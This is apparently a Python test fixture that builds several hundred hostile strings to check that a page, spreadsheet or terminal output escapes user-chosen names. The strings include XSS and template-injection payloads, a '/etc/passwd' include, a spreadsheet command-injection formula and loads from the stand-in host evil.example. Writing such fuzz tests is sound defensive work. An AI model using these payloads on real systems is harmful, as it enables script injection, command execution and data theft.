"""Names that outsiders can choose, made to harm a page, a spreadsheet or a terminal."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from typing import Any

SCRIPTS = [
    "<script>alert(1)</script>", "</title><script>alert(2)</script>", "</style><script>alert(3)</script>", "<img src=x onerror=alert(4)>",
    "\"><svg onload=alert(5)>", "' onmouseover='alert(6)", "\" autofocus onfocus=alert(7) x=\"", "<iframe src=javascript:alert(8)></iframe>",
    "javascript:alert(9)", "<a href=javascript:alert(10)>x</a>", "<body onload=alert(11)>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<style>@import '//evil.example/x'</style>",
    "<object data=//evil.example/x>", "<embed src=//evil.example/x>", "<video src=//evil.example/x onerror=alert(12)>", "<form action=//evil.example><button autofocus>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(13)>", "<svg><animate onbegin=alert(14) attributeName=x dur=1s>", "<details open ontoggle=alert(15)>",
    "{{ 7*7 }}{{ config }}", "{% include '/etc/passwd' %}", "${alert(16)}", "<!--<script>alert(17)//-->", "]]><script>alert(18)</script>", "<scr\0ipt>alert(19)</scr\0ipt>",
    "&lt;script&gt;alert(20)&lt;/script&gt;", "\u003cscript\u003ealert(21)\u003c/script\u003e", "＜script＞alert(22)＜/script＞", "<input onfocus=alert(23) autofocus>", "<img src=//evil.example/pixel>",
    "x\" style=\"background:url(//evil.example/y)", "</svg><script>alert(24)</script>", "</text></svg><img src=x onerror=alert(25)>", "<template><script>alert(26)</script></template>",
]  # fmt: skip
# Each payload unchanged, in other letter case, and after other text: more than 300.
PAYLOADS = [p for s in SCRIPTS for p in (s, s.upper(), s.swapcase(), f"run-{s}", f"{s}{s}", f" {s}", f"\t{s}\n", f"'{s}", f'"{s}')]

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "'=1+1", "\"=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"//evil.example\",\"x\")", "  +1", "\u00a0=1+1", "\ufeff=1+1", "-", "=", "|calc", "%0A=1",
]  # fmt: skip

TERMINAL = ["\x1b[2J\x1b[31mred", "a\rb", "a\nb\nexit 0", "\x9b31m", "abc\u202edcba", "x\u2028y", "\x07bell"]

# Fields of figures whose strings come from outside.
OUTSIDE = {
    "name",
    "experiment",
    "team",
    "person",
    "owner",
    "service",
    "instance_type",
    "match_method",
    "source",
    "last_error",
    "experiment_id",
    "tracking_server",
}


def with_names(value: Any, names: Iterator[str], outside: bool = False) -> Any:
    """Return the figures with each string that outsiders can choose replaced by the next name."""
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value, **{f.name: with_names(getattr(value, f.name), names, f.name in OUTSIDE) for f in fields(value) if f.name != "months"}
        )
    if isinstance(value, tuple):
        return tuple(with_names(v, names, outside or isinstance(v, str)) for v in value)
    return next(names) if isinstance(value, str) and outside else value
